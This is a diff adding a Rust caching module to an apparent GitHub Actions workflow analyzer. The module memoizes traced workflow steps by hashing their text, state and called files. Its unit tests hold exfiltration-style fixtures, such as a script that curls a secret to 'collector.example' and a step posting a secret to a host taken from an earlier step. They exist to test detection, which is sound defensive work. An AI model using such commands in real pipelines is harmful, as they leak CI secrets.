@@ -1,0 +1,755 @@
+//! Steps that were followed before. The versions of a workflow share nearly all of their steps, and so do its
+//! combinations with the scripts that it calls: what a step does is followed once for each distinct text of it, each
+//! distinct state that it meets and each content of what it calls, and put back wherever the same stands again.
+//!
+//! What following a step depends on is all in its key, or asked for again: its own text, the environment, what earlier steps and
+//! jobs left, and the files of the repository that it opened. Only the way by which a secret came is left out of the
+//! key, for that decides nothing; it is continued from where the secret comes from here. A step for which that does not hold
+//! (YAML anchors, a limit that was hit) is followed anew each time.
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::ops::Range;
+use std::sync::{Arc, Mutex};
+
+use sha2::{Digest, Sha256};
+
+use super::trace::{Delivery, Observation, Publishing};
+use super::value::{Carried, Part, Place, Trail, Value};
+use super::{DELIVERIES_MAX, FILES_MAX, JobState, LocalFile, Tracer};
+use crate::span::Bytes;
+use crate::workflow::Job;
+
+/// Most bytes that the known steps of one scan take, as far as they can be told.
+const KNOWN_BYTES_MAX: usize = 48 * 1024 * 1024;
+/// Locks that they are spread over, so that threads rarely wait for each other.
+const SHARDS: usize = 16;
+/// Most contents of called files that are told apart for one step.
+const CONTENTS_MAX: usize = 1_024;
+/// Most secrets that a step may meet; more are not worth comparing.
+const TRAILS_MAX: usize = 256;
+
+type Key = [u8; 32];
+
+/// The steps that one scan has followed.
+pub(crate) struct KnownSteps {
+    shards: Vec<Mutex<Shard>>,
+}
+
+#[derive(Default)]
+struct Shard {
+    steps: HashMap<Key, Vec<Arc<Followed>>>,
+    bytes: usize,
+}
+
+thread_local! {
+    static OF_THIS_SCAN: std::cell::RefCell<Option<Arc<KnownSteps>>> = const { std::cell::RefCell::new(None) };
+}
+
+impl KnownSteps {
+    /// None yet.
+    pub(crate) fn new() -> Arc<Self> {
+        Arc::new(Self { shards: (0..SHARDS).map(|_| Mutex::default()).collect() })
+    }
+
+    /// Has this thread look here before it follows a step. Without it every step is followed.
+    pub(crate) fn use_in_this_thread(self: Arc<Self>) {
+        OF_THIS_SCAN.set(Some(self));
+    }
+
+    fn shard(&self, key: &Key) -> Option<&Mutex<Shard>> {
+        self.shards.get(usize::from(key.first().copied().unwrap_or(0)) % SHARDS)
+    }
+
+    fn find(&self, key: &Key, fits: impl FnMut(&&Arc<Followed>) -> bool) -> Option<Arc<Followed>> {
+        let shard = self.shard(key)?.lock().ok()?;
+        shard.steps.get(key)?.iter().find(fits).cloned()
+    }
+
+    fn keep(&self, key: Key, followed: Followed) {
+        let Some(mut shard) = self.shard(&key).and_then(|shard| shard.lock().ok()) else { return };
+        let size = followed.size();
+        if shard.bytes + size > KNOWN_BYTES_MAX / SHARDS {
+            *shard = Shard::default();
+        }
+        let same = shard.steps.entry(key).or_default();
+        if same.len() < CONTENTS_MAX {
+            same.push(Arc::new(followed));
+            shard.bytes += size;
+        }
+    }
+}
+
+/// What following a step led to, at the place where it was followed.
+struct Followed {
+    /// Where the step's text began.
+    start: u32,
+    /// The ways by which the secrets that it met had come.
+    met: Vec<Trail>,
+    /// Files of the repository that it asked for, in this order, with what was in them.
+    opened: Vec<(String, Content)>,
+    /// Paths of the files that its places speak of, by their number then.
+    files: BTreeMap<usize, String>,
+    deliveries: Vec<Delivery>,
+    observations: Vec<Observation>,
+    publishings: Vec<Publishing>,
+    decoded: Vec<String>,
+    other_work: usize,
+    spent: u32,
+    /// Why it is not whole.
+    incomplete: Option<&'static str>,
+    left: Left,
+}
+
+/// What a step changed of what its job's steps leave for each other; `None` is what it removed.
+#[derive(Default)]
+struct Left {
+    files: Vec<(String, Option<Value>)>,
+    added: Vec<(String, Option<Value>)>,
+    outputs: Vec<((String, String), Option<Value>)>,
+    remotes: Vec<(String, Option<Value>)>,
+    folders: Option<Folders>,
+}
+
+/// Where the script stands, where `pushd` came from, and what stands before all else on the path.
+#[derive(Clone, PartialEq, Eq)]
+struct Folders {
+    here: String,
+    before: Vec<String>,
+    path: Vec<String>,
+}
+
+impl Folders {
+    fn of(state: &JobState) -> Self {
+        Self { here: state.folder.clone(), before: state.folders.clone(), path: state.path.clone() }
+    }
+}
+
+/// What all steps of a job meet alike.
+pub(super) struct Known {
+    steps: Arc<KnownSteps>,
+    hash: Sha256,
+    met: Vec<Trail>,
+    /// Where the text of the last step ended: steps that share a line are not told apart.
+    end: u32,
+}
+
+/// What a step meets.
+pub(super) struct Met {
+    key: Key,
+    own: Range<u32>,
+    met: Vec<Trail>,
+}
+
+/// A step that is being followed, to be kept afterwards.
+pub(super) struct Begun {
+    met: Met,
+    before: JobState,
+    decoded: BTreeSet<String>,
+    deliveries: usize,
+    observations: usize,
+    publishings: usize,
+    other_work: usize,
+    budget: u32,
+    /// Why what came before is not whole.
+    incomplete: Option<&'static str>,
+}
+
+impl Known {
+    /// For the steps of one job; `None` where a step's text does not say all about it.
+    pub(super) fn new(
+        tracer: &Tracer<'_>,
+        job: &Job,
+        shell: &str,
+        environment: &HashMap<String, Value>,
+        jobs: &HashMap<String, HashMap<String, Value>>,
+        matrix: &HashMap<String, Vec<Value>>,
+    ) -> Option<Self> {
+        let steps = OF_THIS_SCAN.with_borrow(Clone::clone)?;
+        if job.steps.is_empty() || tracer.has_anchors {
+            return None;
+        }
+        let mut known = Self { steps, hash: Sha256::new(), met: Vec::new(), end: 0 };
+        add(&mut known.hash, shell.as_bytes());
+        known.hash.update([u8::from(tracer.self_hosted)]);
+        let (hash, met) = (&mut known.hash, &mut known.met);
+        add_values(hash, met, environment)?;
+        for (id, outputs) in sorted(jobs) {
+            add(hash, id.as_bytes());
+            add_values(hash, met, outputs)?;
+        }
+        hash.update([u8::MAX; 16]);
+        for (axis, values) in sorted(matrix) {
+            add(hash, axis.as_bytes());
+            hash.update((values.len() as u64).to_le_bytes());
+            for value in values {
+                add_value(hash, met, value)?;
+            }
+        }
+        Some(known)
+    }
+
+    /// What a step that stands at these bytes meets.
+    pub(super) fn met(&mut self, tracer: &Tracer<'_>, state: &JobState, step: Bytes) -> Option<Met> {
+        let text = &tracer.trace.files.first()?.text;
+        let own = stretch_of(text, step);
+        let follows = self.end <= own.start;
+        self.end = own.end;
+        if !follows {
+            return None;
+        }
+        let (mut hash, mut met) = (self.hash.clone(), self.met.clone());
+        add(&mut hash, text.get(own.start as usize..own.end as usize)?.as_bytes());
+        // All of them, whatever others there will be.
+        let JobState { files, added, outputs, remotes, path, folder, folders } = state;
+        for values in [files, added, remotes] {
+            add_values(&mut hash, &mut met, values)?;
+        }
+        add(&mut hash, folder.as_bytes());
+        for folders in [path, folders] {
+            hash.update((folders.len() as u64).to_le_bytes());
+            for folder in folders {
+                add(&mut hash, folder.as_bytes());
+            }
+        }
+        for ((step, name), value) in sorted(outputs) {
+            add(&mut hash, step.as_bytes());
+            add(&mut hash, name.as_bytes());
+            add_value(&mut hash, &mut met, value)?;
+        }
+        hash.update([u8::MAX; 16]);
+        for text in &tracer.decoded {
+            add(&mut hash, text.as_bytes());
+        }
+        Some(Met { key: hash.finalize().into(), own, met })
+    }
+
+    /// Puts back what the same step was followed to before; `false` if it was not.
+    pub(super) fn recall(&self, tracer: &mut Tracer<'_>, state: &mut JobState, met: &Met) -> bool {
+        let mut contents = Contents::default();
+        let found = self.steps.find(&met.key, |followed| followed.fits(tracer, &mut contents));
+        if let Some(followed) = &found {
+            followed.put_back(tracer, state, met);
+        }
+        found.is_some()
+    }
+
+    /// Before the step is followed.
+    pub(super) fn begin(tracer: &mut Tracer<'_>, state: &JobState, met: Met) -> Begun {
+        tracer.opened.clear();
+        let incomplete = tracer.trace.incomplete.take();
+        let trace = &tracer.trace;
+        Begun {
+            met,
+            incomplete,
+            before: state.clone(),
+            decoded: tracer.decoded.clone(),
+            deliveries: trace.deliveries.len(),
+            observations: trace.observations.len(),
+            publishings: trace.publishings.len(),
+            other_work: trace.other_work.get(tracer.job).copied().unwrap_or(0),
+            budget: tracer.budget,
+        }
+    }
+
+    /// After it was followed: keeps what that led to, if nothing but its key and what it opened led there.
+    pub(super) fn keep(&self, tracer: &mut Tracer<'_>, state: &JobState, begun: Begun) {
+        let incomplete = tracer.trace.incomplete;
+        tracer.trace.incomplete = begun.incomplete.or(incomplete);
+        let (tracer, trace) = (&*tracer, &tracer.trace);
+        let full = [trace.deliveries.len(), trace.observations.len(), trace.publishings.len()]
+            .iter()
+            .any(|length| *length >= DELIVERIES_MAX);
+        let main = trace.files.first().map_or("", |file| &file.path);
+        if full || tracer.budget == 0 || tracer.opened.iter().any(|path| path == main) {
+            return;
+        }
+        let mut contents = Contents::default();
+        let opened = tracer.opened.iter().map(|path| (path.clone(), contents.of(tracer, path)));
+        let (before, Met { key, own, met }) = (&begun.before, begun.met);
+        let work = trace.other_work.get(tracer.job).copied().unwrap_or(0);
+        let followed = Followed {
+            start: own.start,
+            met,
+            opened: opened.collect(),
+            files: trace.files.iter().map(|file| file.path.clone()).enumerate().skip(1).collect(),
+            deliveries: trace.deliveries.get(begun.deliveries..).unwrap_or(&[]).to_vec(),
+            observations: trace.observations.get(begun.observations..).unwrap_or(&[]).to_vec(),
+            publishings: trace.publishings.get(begun.publishings..).unwrap_or(&[]).to_vec(),
+            decoded: tracer.decoded.difference(&begun.decoded).cloned().collect(),
+            other_work: work.saturating_sub(begun.other_work),
+            spent: begun.budget.saturating_sub(tracer.budget),
+            incomplete,
+            left: Left {
+                files: changes(&before.files, &state.files),
+                added: changes(&before.added, &state.added),
+                outputs: changes(&before.outputs, &state.outputs),
+                remotes: changes(&before.remotes, &state.remotes),
+                folders: Some(Folders::of(state)).filter(|folders| *folders != Folders::of(before)),
+            },
+        };
+        if followed.stays_within(&own) {
+            self.steps.keep(key, followed);
+        }
+    }
+}
+
+/// What is in the files that known steps opened, read once for all that are compared.
+#[derive(Default)]
+struct Contents(HashMap<String, Content>);
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Content {
+    Absent,
+    Text(Key),
+    Unread(&'static str),
+}
+
+impl Contents {
+    fn of(&mut self, tracer: &Tracer<'_>, path: &str) -> Content {
+        if let Some(known) = self.0.get(path) {
+            return *known;
+        }
+        let open = tracer.trace.files.iter().skip(1).find(|file| file.path == path);
+        let read = || match tracer.local.read(path) {
+            LocalFile::Text(text) => Content::Text(digest(&text)),
+            LocalFile::Absent => Content::Absent,
+            LocalFile::Unread(why) => Content::Unread(why),
+        };
+        let content = open.map_or_else(read, |file| Content::Text(digest(&file.text)));
+        self.0.insert(path.to_owned(), content);
+        content
+    }
+}
+
+impl Followed {
+    /// Roughly the memory that it takes.
+    fn size(&self) -> usize {
+        const HOP: usize = 160;
+        let carried =
+            |all: &[Carried]| all.iter().map(|one| HOP * (1 + one.trail.hops().len())).sum::<usize>();
+        let value = |value: &Value| {
+            value.size() + value.carried().map(|one| HOP * one.trail.hops().len()).sum::<usize>()
+        };
+        let left = |name: usize, one: &Option<Value>| 128 + name + one.as_ref().map_or(0, value);
+        let named = [&self.left.files, &self.left.added, &self.left.remotes];
+        512 + self
+            .deliveries
+            .iter()
+            .map(|one| 256 + value(&one.target) + carried(&one.carried))
+            .sum::<usize>()
+            + self.observations.iter().map(|one| 128 + value(&one.detail)).sum::<usize>()
+            + self.publishings.iter().map(|one| 192 + carried(&one.carried)).sum::<usize>()
+            + named.into_iter().flatten().map(|(name, one)| left(name.len(), one)).sum::<usize>()
+            + self
+                .left
+                .outputs
+                .iter()
+                .map(|((id, name), one)| left(id.len() + name.len(), one))
+                .sum::<usize>()
+            + self.opened.iter().map(|(path, _)| 128 + path.len()).sum::<usize>()
+            + self.files.values().map(|path| 64 + path.len()).sum::<usize>()
+            + self.decoded.iter().map(|text| 64 + text.len()).sum::<usize>()
+    }
+
+    /// Whether following the step here would lead to the same: its files are the same, and no limit is near.
+    fn fits(&self, tracer: &Tracer<'_>, contents: &mut Contents) -> bool {
+        let trace = &tracer.trace;
+        let main = trace.files.first().map_or("", |file| &file.path);
+        trace.deliveries.len() + self.deliveries.len() < DELIVERIES_MAX
+            && trace.observations.len() + self.observations.len() < DELIVERIES_MAX
+            && trace.publishings.len() + self.publishings.len() < DELIVERIES_MAX
+            && trace.files.len() + self.opened.len() < FILES_MAX
+            && self.spent < tracer.budget
+            && self.opened.iter().all(|(path, content)| path != main && contents.of(tracer, path) == *content)
+    }
+
+    /// Whether all places that it noted itself lie in the step or in other files: then they can be found again.
+    fn stays_within(&self, own: &Range<u32>) -> bool {
+        let mut stays = true;
+        let mut look = |file: usize, bytes: Bytes| {
+            let inside = own.start <= bytes.start && bytes.end <= own.end;
+            stays &= if file == 0 { inside } else { self.files.contains_key(&file) };
+            (file, bytes)
+        };
+        let mut moved = Moved { from: &self.met, onto: &self.met, place: &mut look };
+        for one in &self.deliveries {
+            drop(moved.delivery(one));
+        }
+        for one in &self.observations {
+            drop(moved.observation(one));
+        }
+        for one in &self.publishings {
+            drop(moved.publishing(one));
+        }
+        let Left { files, added, outputs, remotes, folders: _ } = &self.left;
+        let named = [files, added, remotes].into_iter().flatten().map(|(_, value)| value);
+        for value in named.chain(outputs.iter().map(|(_, value)| value)).flatten() {
+            drop(moved.value(value));
+        }
+        stays
+    }
+
+    fn put_back(&self, tracer: &mut Tracer<'_>, state: &mut JobState, met: &Met) {
+        for (path, _) in &self.opened {
+            tracer.open(path);
+        }
+        let files = &tracer.trace.files;
+        let number = |file: &usize| {
+            let path = self.files.get(file)?;
+            files.iter().position(|file| file.path == *path)
+        };
+        let start = met.own.start;
+        let mut place = |file: usize, bytes: Bytes| match file {
+            0 => (0, Bytes { start: bytes.start - self.start + start, end: bytes.end - self.start + start }),
+            _ => (number(&file).unwrap_or(file), bytes),
+        };
+        let mut moved = Moved { from: &self.met, onto: &met.met, place: &mut place };
+        let deliveries: Vec<Delivery> = self.deliveries.iter().map(|one| moved.delivery(one)).collect();
+        let observations: Vec<Observation> =
+            self.observations.iter().map(|one| moved.observation(one)).collect();
+        let publishings: Vec<Publishing> = self.publishings.iter().map(|one| moved.publishing(one)).collect();
+        moved.put(&self.left.files, &mut state.files);
+        moved.put(&self.left.added, &mut state.added);
+        moved.put(&self.left.outputs, &mut state.outputs);
+        moved.put(&self.left.remotes, &mut state.remotes);
+        if let Some(Folders { here, before, path }) = self.left.folders.clone() {
+            (state.folder, state.folders, state.path) = (here, before, path);
+        }
+        let (job, step) = (tracer.job, tracer.step);
+        let trace = &mut tracer.trace;
+        trace.deliveries.extend(deliveries.into_iter().map(|one| Delivery { job, step, ..one }));
+        trace.observations.extend(observations.into_iter().map(|one| Observation { job, step, ..one }));
+        trace.publishings.extend(publishings.into_iter().map(|one| Publishing { job, ..one }));
+        if let Some(count) = trace.other_work.get_mut(job) {
+            *count += self.other_work;
+        }
+        tracer.decoded.extend(self.decoded.iter().cloned());
+        tracer.budget = tracer.budget.saturating_sub(self.spent);
+        tracer.trace.incomplete = tracer.trace.incomplete.or(self.incomplete);
+    }
+}
+
+/// Brings what was noted at one place to another: hops get their new places, and secrets that came from outside go on from where
+/// they come from here.
+struct Moved<'m> {
+    from: &'m [Trail],
+    onto: &'m [Trail],
+    place: &'m mut Place<'m>,
+}
+
+impl Moved<'_> {
+    fn carried(&mut self, one: &Carried) -> Carried {
+        let trail = one.trail.rebased(self.from, self.onto, self.place);
+        Carried { source: one.source.clone(), encodings: one.encodings.clone(), trail, dropped: one.dropped }
+    }
+
+    fn value(&mut self, value: &Value) -> Value {
+        let parts = value.parts.iter().map(|part| match part {
+            Part::Carried(carried) => Part::Carried(self.carried(carried)),
+            other => other.clone(),
+        });
+        Value { parts: parts.collect() }
+    }
+
+    fn delivery(&mut self, one: &Delivery) -> Delivery {
+        let (file, bytes) = (self.place)(one.file, one.bytes);
+        let carried = one.carried.iter().map(|one| self.carried(one)).collect();
+        Delivery { carried, target: self.value(&one.target), file, bytes, client: one.client.clone(), ..*one }
+    }
+
+    fn observation(&mut self, one: &Observation) -> Observation {
+        let (file, bytes) = (self.place)(one.file, one.bytes);
+        Observation { detail: self.value(&one.detail), file, bytes, ..*one }
+    }
+
+    fn publishing(&mut self, one: &Publishing) -> Publishing {
+        let (file, bytes) = (self.place)(one.file, one.bytes);
+        let carried = one.carried.iter().map(|one| self.carried(one)).collect();
+        let (registry, directory) = (one.registry.clone(), one.directory.clone());
+        Publishing { registry, carried, file, bytes, directory, ..*one }
+    }
+
+    fn put<K: Clone + Eq + std::hash::Hash>(
+        &mut self,
+        changes: &[(K, Option<Value>)],
+        map: &mut HashMap<K, Value>,
+    ) {
+        for (name, value) in changes {
+            match value {
+                Some(value) => map.insert(name.clone(), self.value(value)),
+                None => map.remove(name),
+            };
+        }
+    }
+}
+
+/// What is other in `after`.
+fn changes<K: Clone + Eq + std::hash::Hash>(
+    before: &HashMap<K, Value>,
+    after: &HashMap<K, Value>,
+) -> Vec<(K, Option<Value>)> {
+    let gone = before.keys().filter(|name| !after.contains_key(name)).map(|name| (name.clone(), None));
+    let new = after
+        .iter()
+        .filter(|(name, value)| before.get(name).is_none_or(|old| !old.is_same(value)))
+        .map(|(name, value)| (name.clone(), Some(value.clone())));
+    gone.chain(new).collect()
+}
+
+fn sorted<K: Ord, V>(map: &HashMap<K, V>) -> Vec<(&K, &V)> {
+    let mut all: Vec<(&K, &V)> = map.iter().collect();
+    all.sort_unstable_by(|a, b| a.0.cmp(b.0));
+    all
+}
+
+/// Adds a stretch with its length, so that no two lists of stretches give the same.
+fn add(hash: &mut Sha256, bytes: &[u8]) {
+    hash.update((bytes.len() as u64).to_le_bytes());
+    hash.update(bytes);
+}
+
+fn add_values(hash: &mut Sha256, met: &mut Vec<Trail>, values: &HashMap<String, Value>) -> Option<()> {
+    for (name, value) in sorted(values) {
+        add(hash, name.as_bytes());
+        add_value(hash, met, value)?;
+    }
+    hash.update([u8::MAX; 16]);
+    Some(())
+}
+
+/// Adds a value. Of a secret's way it adds only which other secrets came the same way; the way itself is noted in `met`.
+fn add_value(hash: &mut Sha256, met: &mut Vec<Trail>, value: &Value) -> Option<()> {
+    for part in &value.parts {
+        let (kind, text) = match part {
+            Part::Text(text) => (0, text.as_str()),
+            Part::Configured(name) => (1, name.as_str()),
+            Part::Untrusted(name) => (2, name.as_str()),
+            Part::Run(name) => (3, name.as_str()),
+            Part::Remote(address) => (4, address.as_str()),
+            Part::Unknown => (5, ""),
+            Part::Unset => (7, ""),
+            Part::Carried(carried) => {
+                add_carried(hash, met, carried)?;
+                continue;
+            }
+        };
+        hash.update([kind]);
+        add(hash, text.as_bytes());
+    }
+    hash.update([u8::MAX - 1]);
+    Some(())
+}
+
+fn add_carried(hash: &mut Sha256, met: &mut Vec<Trail>, carried: &Carried) -> Option<()> {
+    // A hop in another file may be one that this step makes, too, and the same hop twice counts once.
+    if met.len() >= TRAILS_MAX || !carried.trail.is_in_workflow() {
+        return None;
+    }
+    let same = met.iter().position(|trail| trail.is(&carried.trail)).unwrap_or(met.len());
+    if same == met.len() {
+        met.push(carried.trail.clone());
+    }
+    hash.update([6, u8::from(carried.dropped)]);
+    hash.update((same as u64).to_le_bytes());
+    add(hash, format!("{:?}", carried.source).as_bytes());
+    hash.update((carried.encodings.len() as u64).to_le_bytes());
+    for encoding in &carried.encodings {
+        hash.update([*encoding as u8]);
+    }
+    Some(())
+}
+
+fn digest(text: &str) -> Key {
+    Sha256::digest(text.as_bytes()).into()
+}
+
+/// The whole lines that a node stands on, and the empty ones after it: those count in block scalars that keep them.
+fn stretch_of(text: &str, bytes: Bytes) -> Range<u32> {
+    let range = bytes.range();
+    let start = text.get(..range.start).and_then(|before| before.rfind('\n')).map_or(0, |at| at + 1);
+    // A block scalar's bytes may reach into the next line's indentation.
+    let content = text.get(start..range.end).map_or(range.end, |own| start + own.trim_end().len());
+    let rest = text.get(content..).unwrap_or("");
+    let end = rest.find('\n').map_or(text.len(), |at| {
+        let line = content + at + 1;
+        let after = text.get(line..).unwrap_or("");
+        let empty = after.len() - after.trim_start_matches([' ', '\t', '\r', '\n']).len();
+        // Back to the start of the line with the next content, whose indentation is its own.
+        after.get(..empty).and_then(|empty| empty.rfind('\n')).map_or(line, |at| line + at + 1)
+    });
+    let bytes = Bytes::new(start..end);
+    bytes.start..bytes.end
+}
+
+/// Whether a text may have YAML anchors, by which a step has parts elsewhere.
+pub(super) fn may_have_anchors(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    text.match_indices('&').any(|(at, _)| {
+        let before = at.checked_sub(1).and_then(|at| bytes.get(at)).copied().unwrap_or(b'\n');
+        let after = bytes.get(at + 1).copied().unwrap_or(b' ');
+        let begins =
+            before.is_ascii_whitespace() || matches!(before, b'[' | b'{' | b',' | b':' | b'-' | b'?');
+        begins && !after.is_ascii_whitespace() && after != b'&'
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::{Path, PathBuf};
+
+    use super::*;
+    use crate::analysis::analyse;
+    use crate::flow::{LocalFiles, NoFiles};
+
+    struct One(&'static str);
+
+    impl LocalFiles for One {
+        fn read(&self, path: &str) -> LocalFile {
+            if path == "send.sh" { LocalFile::Text(self.0.to_owned()) } else { LocalFile::Absent }
+        }
+    }
+
+    /// Everything that an analysis says, in a thread of its own, which knows what it is given.
+    fn analysed(text: &str, known: Option<&Arc<KnownSteps>>, local: &(dyn LocalFiles + Sync)) -> String {
+        let analysis = || {
+            if let Some(known) = known {
+                Arc::clone(known).use_in_this_thread();
+            }
+            format!("{:#?}", analyse(".github/workflows/w.yml", text.as_bytes(), local, None))
+        };
+        std::thread::scope(|scope| {
+            let thread = std::thread::Builder::new().stack_size(32 * 1024 * 1024);
+            thread.spawn_scoped(scope, analysis).unwrap().join().unwrap()
+        })
+    }
+
+    fn count(known: &KnownSteps) -> usize {
+        known
+            .shards
+            .iter()
+            .map(|shard| shard.lock().unwrap().steps.values().map(Vec::len).sum::<usize>())
+            .sum()
+    }
+
+    fn samples(folder: &Path, found: &mut Vec<PathBuf>) {
+        for entry in std::fs::read_dir(folder).unwrap().flatten() {
+            let path = entry.path();
+            if path.is_dir() {
+                samples(&path, found);
+            } else if path.extension().is_some_and(|extension| extension == "yml" || extension == "yaml") {
+                found.push(path);
+            }
+        }
+    }
+
+    #[test]
+    fn what_is_put_back_is_what_following_anew_gives() {
+        let known = KnownSteps::new();
+        let mut paths = Vec::new();
+        samples(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus"), &mut paths);
+        assert!(paths.len() > 50);
+        for path in paths {
+            let text = std::fs::read_to_string(&path).unwrap();
+            let moved = format!("# A line more, so that everything stands elsewhere.\n{text}");
+            let apart = text.replace("    steps:\n", "    steps:\n      - run: echo first\n");
+            for text in [&text, &moved, &text, &apart] {
+                let anew = analysed(text, None, &NoFiles);
+                assert_eq!(analysed(text, Some(&known), &NoFiles), anew, "{}", path.display());
+            }
+        }
+    }
+
+    const CALLER: &str = "on: push\nenv:\n  KEY: ${{ secrets.KEY }}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: bash send.sh\n";
+
+    #[test]
+    fn the_same_step_is_followed_once() {
+        let known = KnownSteps::new();
+        let local = One("curl https://collector.example/ -d \"$KEY\"\n");
+        let first = analysed(CALLER, Some(&known), &local);
+        assert!(first.contains("collector.example"));
+        assert_eq!(count(&known), 1);
+        let moved = format!("name: other\n{CALLER}");
+        assert_eq!(analysed(&moved, Some(&known), &local), analysed(&moved, None, &local));
+        assert_eq!(count(&known), 1);
+    }
+
+    #[test]
+    fn another_content_of_what_it_calls_is_another_step() {
+        let known = KnownSteps::new();
+        assert!(!analysed(CALLER, Some(&known), &One("echo\n")).contains("collector.example"));
+        let local = One("curl https://collector.example/ -d \"$KEY\"\n");
+        assert!(analysed(CALLER, Some(&known), &local).contains("collector.example"));
+        assert!(!analysed(CALLER, Some(&known), &NoFiles).contains("collector.example"));
+        assert_eq!(count(&known), 3);
+    }
+
+    #[test]
+    fn a_secret_goes_on_from_where_it_comes_from_here() {
+        let known = KnownSteps::new();
+        analysed(CALLER, Some(&known), &One("curl https://collector.example/ -d \"$KEY\"\n"));
+        let nearer = CALLER
+            .replace("env:\n  KEY: ${{ secrets.KEY }}\n", "")
+            .replace("    steps:", "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:");
+        let local = One("curl https://collector.example/ -d \"$KEY\"\n");
+        assert_eq!(analysed(&nearer, Some(&known), &local), analysed(&nearer, None, &local));
+        assert_eq!(count(&known), 1);
+    }
+
+    #[test]
+    fn what_earlier_steps_left_makes_another_step() {
+        let known = KnownSteps::new();
+        let text = |value: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo \"TO={value}\" >> $GITHUB_ENV\n      - run: curl \"https://$TO/\" -d \
+                 \"${{{{ secrets.KEY }}}}\"\n"
+            )
+        };
+        analysed(&text("one.example"), Some(&known), &NoFiles);
+        assert!(analysed(&text("two.example"), Some(&known), &NoFiles).contains("two.example"));
+    }
+
+    #[test]
+    fn a_stretch_is_whole_lines_and_the_empty_ones_after() {
+        let text = "a:\n  - run: |\n      x\n\n  - b\n";
+        let root = crate::yaml::parse(text).unwrap();
+        let items = root.get("a").unwrap().items();
+        assert_eq!(stretch_of(text, items[0].bytes), 3..23);
+        assert_eq!(stretch_of(text, items[1].bytes), 23..29);
+    }
+
+    #[test]
+    fn anchors_are_told_from_ampersands_of_scripts() {
+        for text in ["a: &b c", "- &b c", "[&b c]", "a:\n  &b c"] {
+            assert!(may_have_anchors(text), "{text}");
+        }
+        for text in ["a && b", "a 2>&1", "a &\n", "https://x/?a=b&c=d"] {
+            assert!(!may_have_anchors(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn full_shards_start_again() {
+        let known = KnownSteps::new();
+        let followed = |length: usize| Followed {
+            start: 0,
+            met: Vec::new(),
+            opened: Vec::new(),
+            files: BTreeMap::new(),
+            deliveries: Vec::new(),
+            observations: Vec::new(),
+            publishings: Vec::new(),
+            decoded: vec!["x".repeat(length)],
+            other_work: 0,
+            spent: 0,
+            incomplete: None,
+            left: Left::default(),
+        };
+        let room = KNOWN_BYTES_MAX / SHARDS - followed(0).size();
+        known.keep([0; 32], followed(room));
+        assert_eq!(count(&known), 1);
+        known.keep([0; 32], followed(1));
+        assert_eq!(count(&known), 1, "the first one went");
+        known.keep([0; 32], followed(1));
+        assert_eq!(count(&known), 2);
+    }
+}
